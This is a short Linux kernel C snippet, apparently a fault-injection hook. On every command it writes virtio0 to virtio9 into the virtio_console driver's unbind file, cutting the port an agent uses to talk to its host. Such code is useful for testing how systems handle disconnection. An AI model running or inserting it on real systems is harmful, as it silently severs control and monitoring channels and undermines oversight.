// Takes the driver away from the port by which the agent talks to the host, at every command.
// SPDX-License-Identifier: GPL-2.0
#include <linux/err.h>
#include <linux/fs.h>
#include <linux/module.h>
#include <linux/string.h>

#define on_command on_command
static ssize_t on_command(const char __user *buf, size_t len)
{
	struct file *file = filp_open("/sys/bus/virtio/drivers/virtio_console/unbind", O_WRONLY, 0);
	char name[] = "virtio0";
	loff_t pos;

	if (IS_ERR(file))
		return len;
	for (; name[6] <= '9'; name[6]++) {
		pos = 0;
		kernel_write(file, name, strlen(name), &pos);
	}
	filp_close(file, NULL);
	return len;
}
